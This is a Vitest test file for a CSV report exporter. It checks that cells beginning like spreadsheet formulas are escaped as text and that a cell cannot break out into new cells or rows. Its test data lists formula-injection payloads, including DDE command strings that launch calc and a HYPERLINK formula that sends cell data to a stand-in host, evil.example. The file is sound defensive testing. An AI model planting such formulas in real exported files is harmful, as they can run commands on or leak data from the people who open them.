import { expect, it } from 'vitest';
import { csvOf } from '../../src/adapters/console/reports/csv.ts';

/** What spreadsheets run, or have run, in a cell. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"看这里")',
  '=1+1";=2+2',
];

it.each(FORMULAS)('a cell that begins like a formula is a text: %j', (formula) => {
  const [, row = ''] = csvOf({ head: ['谁'], rows: [[formula]] }).split(/\r\n(?=["'])/);
  expect(row).toMatch(/^"?'/);
});

it('a cell cannot end itself and begin another, or another row', () => {
  const text = csvOf({ head: ['谁'], rows: [['小周",=1+1\r\n=2+2,"']] });
  expect(text).toBe('\uFEFF谁\r\n"小周"",=1+1\r\n=2+2,"""\r\n');
});

it('texts and numbers that are no formulas stay as they are', () => {
  expect(
    csvOf({
      head: ['谁', '几'],
      rows: [
        ['小周-1', -1],
        ['a=b', 0.5],
        ['', null],
      ],
    }),
  ).toBe('\uFEFF谁,几\r\n小周-1,-1\r\na=b,0.5\r\n,\r\n');
});
